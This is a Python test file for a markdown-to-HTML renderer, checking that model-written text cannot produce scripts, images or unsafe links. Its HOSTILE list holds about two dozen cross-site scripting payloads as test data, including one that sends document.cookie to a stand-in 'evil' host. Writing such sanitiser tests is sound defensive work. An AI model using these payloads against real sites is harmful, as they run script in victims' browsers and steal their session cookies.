"""What a model writes can be read and can do nothing: no script, no picture, no surprise link."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from controlplane.wording.markdown import LIMIT, markdown_html

ALLOWED = {
    *("p", "br", "hr", "h1", "h2", "h3", "h4", "h5", "h6", "blockquote", "ul", "ol", "li"),
    *("strong", "em", "s", "code", "pre", "a", "table", "thead", "tbody", "tr", "th", "td"),
}
ATTRIBUTES = {"href", "title", "target", "rel", "class", "start"}

HOSTILE = [
    "<script>alert(1)</script>",
    '<img src=x onerror=fetch("//evil/"+document.cookie)>',
    "<svg onload=alert(1)>",
    "<iframe srcdoc='<script>1</script>'></iframe>",
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](java\nscript:alert(1))",
    "[a](&#106;avascript:alert(1))",
    "[a](data:text/html;base64,PHNjcmlwdD4=)",
    "[a](vbscript:msgbox(1))",
    "[a](file:///etc/passwd)",
    "![x](https://evil.test/?q=SECRET)",
    "![x](javascript:alert(1))",
    '![x](https://evil.test/"onerror="alert(1))',
    '[a](https://x "onclick=alert(1)")',
    '[a](https://x/"><script>alert(1)</script>)',
    "```html\n<script>alert(1)</script>\n```",
    '```" onmouseover="alert(1)\nx\n```',
    "<a href='javascript:1'>x</a>",
    "<style>@import url(//evil)</style>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "[x]: javascript:alert(1)\n\n[x]",
    "|a|\n|-|\n|<img src=x onerror=alert(1)>|",
    "\x1b]8;;javascript:1\x07x",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
]


class Seen(HTMLParser):
    """What a browser would build."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags = []
        self.attributes = []

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attributes += [(tag, name, value) for name, value in attrs]


def seen(html):
    parser = Seen()
    parser.feed(html)
    parser.close()
    return parser


def assert_harmless(html):
    found = seen(html)
    assert set(found.tags) <= ALLOWED
    for _tag, name, value in found.attributes:
        assert name in ATTRIBUTES
        if name == "href":
            assert re.match(r"(https?:|mailto:|[/#?.]|[\w%-]+(?!:)|$)", value or "")
            assert not re.match(r"\s*(javascript|data|vbscript|file):", value or "", re.IGNORECASE)


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize("frame", ["{}", "> {}", "- {}", "**{}**", "a {} b\n\n{}", "# {}"])
def test_hostile_text_does_nothing(text, frame):
    assert_harmless(markdown_html(frame.replace("{}", text)))


@given(st.text(st.sampled_from("<>[]()!`*_#|-~\\\"'&;:/ \nabjs\x00🙂"), max_size=120))
def test_any_text_gives_harmless_html(text):
    assert_harmless(markdown_html(text))


def test_a_picture_is_a_link_that_nothing_fetches():
    html = markdown_html("![a cat](https://x.test/cat.png)")
    assert "<img" not in html
    assert 'href="https://x.test/cat.png"' in html
    assert ">a cat</a>" in html


def test_links_open_elsewhere_and_tell_nothing():
    html = markdown_html("[a](https://x.test)")
    assert 'target="_blank"' in html
    assert 'rel="noopener noreferrer nofollow"' in html


@pytest.mark.parametrize(
    ("text", "part"),
    [
        ("# Title", "<h1>Title</h1>"),
        ("a **b** *c* `d`", "<strong>b</strong> <em>c</em> <code>d</code>"),
        ("```python\nx = 1\n```", '<code class="language-python">x = 1\n</code>'),
        ("1. a\n2. b", "<ol>"),
        ("3. a", '<ol start="3">'),
        ("|a|b|\n|-|-|\n|1|2|", "<td>1</td>"),
        ("~~x~~", "<s>x</s>"),
        ("1 < 2 & 3", "1 &lt; 2 &amp; 3"),
        ("```\nunfinished", "<pre><code>unfinished"),
    ],
)
def test_what_models_write_is_rendered(text, part):
    assert part in markdown_html(text)


def test_beyond_the_limit_text_is_shown_as_it_is():
    html = markdown_html("a" * LIMIT + "**<b>**")
    assert html.endswith("<pre><code>**&lt;b&gt;**</code></pre>")
